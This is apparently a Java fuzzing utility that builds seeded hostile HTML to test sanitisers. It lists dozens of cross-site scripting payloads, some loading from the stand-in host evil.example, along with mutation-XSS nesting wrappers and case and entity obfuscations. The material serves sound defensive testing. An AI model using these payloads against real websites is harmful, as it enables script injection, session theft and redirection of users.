package org.programmekb.fuzz;

import java.util.List;
import java.util.Random;

/**
 * HTML that tries to run a script or to load something from elsewhere, the same for the same seed: patterns of attacks on
 * sanitisers in random order and nesting. A script that runs calls the function {@code canary}.
 */
public final class HostileHtml {
    /** What would run, each in its own way. */
    private static final List<String> LOADS = List.of(
            "<script>canary(1)</script>",
            "<script src=\"https://evil.example/x.js\"></script>",
            "<img src=x onerror=canary(2)>",
            "<img src=\"https://evil.example/x.png\">",
            "<svg onload=canary(3)>",
            "<svg><script>canary(4)</script></svg>",
            "<svg><animate onbegin=canary(5) attributeName=x dur=1s>",
            "<svg><use href=\"https://evil.example/x.svg#a\"/></svg>",
            "<svg><image xlink:href=\"https://evil.example/x.svg\"/></svg>",
            "<svg><a xlink:href=\"javascript:canary(6)\"><text y=9>x</text></a></svg>",
            "<svg><set attributeName=href to=\"javascript:canary(7)\"/></svg>",
            "<iframe srcdoc=\"<script>parent.canary(8)</script>\"></iframe>",
            "<iframe src=\"javascript:parent.canary(9)\"></iframe>",
            "<iframe src=\"https://evil.example/\"></iframe>",
            "<object data=\"https://evil.example/x\"></object>",
            "<embed src=\"https://evil.example/x\">",
            "<video poster=\"https://evil.example/x\" src=x onerror=canary(10)></video>",
            "<audio src=\"https://evil.example/x\" autoplay></audio>",
            "<details open ontoggle=canary(11)>x</details>",
            "<body onload=canary(12)>",
            "<input autofocus onfocus=canary(13)>",
            "<p tabindex=1 autofocus onfocus=canary(14)>x</p>",
            "<p style=\"background:url(https://evil.example/x)\">x</p>",
            "<p style=\"animation:x\" onanimationstart=canary(15)>x</p>",
            "<style>@import \"https://evil.example/x.css\";p{background:url(https://evil.example/y)}</style>",
            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
            "<link rel=prefetch href=\"https://evil.example/x\">",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
            "<base href=\"https://evil.example/\">",
            "<form action=\"https://evil.example/\"><button autofocus>x</button></form>",
            "<a href=\"javascript:canary(16)\" class=x>x</a>",
            "<a href=\"java\nscript:canary(17)\">x</a>",
            "<a href=\" &#1;javascript:canary(18)\">x</a>",
            "<a href=\"data:text/html,<script>canary(19)</script>\">x</a>",
            "<a href=\"x\" ping=\"https://evil.example/\">x</a>",
            "<img srcset=\"https://evil.example/x 2x\" src=a.png>",
            "<picture><source srcset=\"https://evil.example/x\"><img src=a.png></picture>",
            "<table background=\"https://evil.example/x\"><tr><td background=\"https://evil.example/y\">x</table>",
            "<marquee onstart=canary(20)>x</marquee>",
            "<math href=\"javascript:canary(21)\">x</math>",
            "<math><maction actiontype=statusline xlink:href=\"javascript:canary(22)\">x</maction></math>",
            "<template shadowrootmode=open><script>canary(23)</script></template>",
            "<video><source onerror=canary(24) src=x></video>",
            "<isindex action=\"javascript:canary(25)\">",
            "<portal src=\"https://evil.example/\"></portal>",
            "<bgsound src=\"https://evil.example/x\">",
            "<img src=\"a.png\" lowsrc=\"https://evil.example/x\" dynsrc=\"https://evil.example/y\">",
            "<button popovertarget=p>x</button><p id=p popover onbeforetoggle=canary(26)>x</p>");

    /** What surrounds it, so that a cleaner and a browser read different things; {@code *} is the place of the rest. */
    private static final List<String> SHELLS = List.of(
            "<svg><style>*</style></svg>",
            "<math><style>*</style></math>",
            "<svg><title>*</title></svg>",
            "<svg><desc>*</desc></svg>",
            "<svg><foreignObject>*</foreignObject></svg>",
            "<math><mtext><table><mglyph><style><!--</style><p title=\"--&gt;*\">",
            "<math><annotation-xml encoding=\"text/html\">*</annotation-xml></math>",
            "<math><mtext>*</mtext></math>",
            "<form><math><mtext></form><form><mglyph><style></math>*",
            "<noscript><p title=\"</noscript>*\"></noscript>",
            "<noscript>*</noscript>",
            "<template>*</template>",
            "<textarea><p title=\"</textarea>*\"></textarea>",
            "<title><p title=\"</title>*\"></title>",
            "<xmp><p title=\"</xmp>*\"></xmp>",
            "<noembed><p title=\"</noembed>*\"></noembed>",
            "<noframes><p title=\"</noframes>*\"></noframes>",
            "<iframe><p title=\"</iframe>*\"></iframe>",
            "<plaintext>*",
            "<select><option>*</option></select>",
            "<table><tr>*<td>x</td></tr></table>",
            "<table><caption>*</caption></table>",
            "<a href=\"x.en.md\">*<div>x</a></div>",
            "<!--*-->",
            "<!-->*-->",
            "<!--->*-->",
            "<!-- --!>*-->",
            "<!-- <!-- -->*",
            "<![CDATA[*]]>",
            "<svg><![CDATA[</svg>*]]></svg>",
            "<?xml *?>",
            "<!DOCTYPE x [*]>",
            "</p>*",
            "<p title='*'>x</p>",
            "<p title=\"x\" *>x</p>",
            "<p id=\"*\">x</p>",
            "<p class=\"language-*\">x</p>",
            "<p/*/>",
            "<p a=`*`>x</p>",
            "<img alt=\"*\" src=a.png title='*'>",
            "<code>*</code>",
            "<pre><code class=\"language-html\">*</code></pre>",
            "<b><i>*</b></i>",
            "<ruby>x<rt>*</ruby>",
            "<details><summary>*</summary></details>",
            "<frameset>*</frameset>",
            "<image>*",
            "<br/ *>",
            "<%00p>*",
            "&lt;p&gt;*&lt;/p&gt;",
            "\u2028*\u0000",
            "<o:p>*</o:p>",
            "<p\fonclick=canary(27)\f>*</p>",
            "<svg></p><style><g title=\"</style>*\">",
            "<math></br><style><mglyph title=\"</style>*\">");

    private static final List<String> ENDS =
            List.of("", "</svg>", "</math>", "</div>", "\"", "'", "-->", ">", "]]>", "</p>");

    private HostileHtml() {}

    /** A text with some attacks. */
    public static String of(long seed) {
        Random random = new Random(seed);
        StringBuilder html = new StringBuilder();
        for (int i = 1 + random.nextInt(3); i > 0; i--) {
            String attack = pick(LOADS, random);
            for (int j = random.nextInt(4); j > 0; j--) {
                attack = pick(SHELLS, random).replace("*", attack);
            }
            html.append(changed(attack, random)).append(pick(ENDS, random)).append('\n');
        }
        return html.toString();
    }

    /** The same with other quotation marks, cases or references now and then. */
    private static String changed(String attack, Random random) {
        return switch (random.nextInt(8)) {
            case 0 -> attack.replace('"', '\'');
            case 1 -> attack.replace("\"", "&quot;");
            case 2 -> attack.replace("<", "&lt;");
            case 3 -> attack.replace("script", "ScRiPt").replace("<s", "<S");
            case 4 -> attack.replace(" on", "/on");
            case 5 -> attack.replace(">", " \n>");
            default -> attack;
        };
    }

    private static String pick(List<String> list, Random random) {
        return list.get(random.nextInt(list.size()));
    }
}
